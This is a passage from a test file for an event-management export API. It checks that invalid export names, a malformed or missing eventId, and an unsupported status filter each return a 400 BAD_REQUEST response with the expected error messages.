      const answer = await read(await exportRequest(name, `?eventId=${eventId}`, organiser));
      expect(answer).toMatchObject({
        code: 400,
        status: "BAD_REQUEST",
        payload:
          "The export must be vendors, orders, tickets, compliance, sales, contacts or newsletter, as .csv or .xlsx.",
      });
    },
  );

  it("answers BAD_REQUEST for a malformed or missing eventId, or a status that is none", async () => {
    const malformed = await read(await exportRequest("orders.csv", "?eventId=abc", organiser));
    expect(malformed).toMatchObject({ code: 400, status: "BAD_REQUEST" });
    const status = await read(
      await exportRequest("orders.csv", `?eventId=${eventId}&status=Paid`, organiser),
    );
    expect(status).toMatchObject({ code: 400, status: "BAD_REQUEST" });
    const missing = await read(await exportRequest("tickets.xlsx", "", organiser));
    expect(missing).toMatchObject({
      code: 400,
      status: "BAD_REQUEST",
      payload: "eventId is required for this export.",
    });
  });
});
